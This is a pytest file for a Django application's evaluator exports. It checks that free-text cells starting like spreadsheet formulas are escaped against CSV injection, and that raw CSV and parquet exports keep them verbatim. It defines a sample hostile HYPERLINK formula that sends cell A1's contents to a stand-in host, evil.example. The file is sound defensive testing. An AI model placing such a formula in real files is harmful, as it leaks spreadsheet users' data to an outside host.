"""Formula text in evaluator CSV exports is escaped by default (OWASP CSV injection);
numbers and the other formats keep their values verbatim."""

import csv

import pandas as pd
import pytest

from overgang.exports.actions import EvaluatorExportOptions, do_evaluator_export
from overgang.exports.formats import escape_formula, write_csv
from overgang.exports.tables import Column, Table

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klik her")'


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+45 1234", "'+45 1234"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Solsikke", "Solsikke"), ("a=b", "a=b"), ("", ""),
])
def test_text_starting_like_a_formula_gets_an_apostrophe(text, expected):
    assert escape_formula(text) == expected


def test_the_csv_writer_escapes_text_columns_only(tmp_path):
    table = Table("t", "t", [Column("note", "", "str"), Column("months", "", "int"), Column("score", "", "float")],
                  rows=[[HYPERLINK, -3, -1.5] for HYPERLINK in (HOSTILE,)])
    write_csv(table, tmp_path / "escaped.csv")
    write_csv(table, tmp_path / "raw.csv", escape_formulas=False)
    escaped = list(csv.reader(open(tmp_path / "escaped.csv", encoding="utf-8")))[1]
    raw = list(csv.reader(open(tmp_path / "raw.csv", encoding="utf-8")))[1]
    assert escaped == ["'" + HOSTILE, "-3", "-1.5"]
    assert raw == [HOSTILE, "-3", "-1.5"]


@pytest.fixture
def hostile_world(world, tmp_path):
    """A cohort of completed records, one end form's free text made hostile."""
    from overgang.synthetic import package as cohort
    from overgang.exports.actions import do_import_package
    from overgang.measurements.models import Record

    cohort.write_cohort(tmp_path / "cohort", courses=6, seed=3, municipalities=("Aby Kommune",),
                        worker_names={"Aby Kommune": ["worker"]})
    assert do_import_package(tmp_path / "cohort").ok
    record = Record.objects.completed().filter(instrument="cti_end").select_related("citizen").first()
    answers = record.get_answers()
    answers["economy_notes"] = HOSTILE
    record.set_answers(answers)
    record.save()
    return world


def _export_with_a_hostile_note(world, directory, fmt, **options):
    opts = EvaluatorExportOptions(municipalities=(world.a,), instruments=("cti_end",), format=fmt,
                                  purpose="Test", include_text=True, **options)
    do_evaluator_export(directory, opts, actor=world.evaluator)


def test_an_evaluator_csv_export_escapes_a_hostile_free_text(hostile_world, tmp_path):
    _export_with_a_hostile_note(hostile_world, tmp_path / "csv", "csv")
    long = pd.read_csv(tmp_path / "csv" / "cti_end_long.csv", dtype=str, keep_default_na=False)
    assert "'" + HOSTILE in set(long["value"]) and HOSTILE not in set(long["value"])
    about = (tmp_path / "csv" / "export.json").read_text()
    assert '"csv_formulas_escaped": true' in about


def test_the_raw_option_and_parquet_keep_the_text_verbatim(hostile_world, tmp_path):
    world = hostile_world
    _export_with_a_hostile_note(world, tmp_path / "raw", "csv", csv_escape=False)
    long = pd.read_csv(tmp_path / "raw" / "cti_end_long.csv", dtype=str, keep_default_na=False)
    assert HOSTILE in set(long["value"])
    _export_with_a_hostile_note(world, tmp_path / "pq", "parquet")
    long = pd.read_parquet(tmp_path / "pq" / "cti_end_long.parquet")
    assert HOSTILE in set(long["value"])
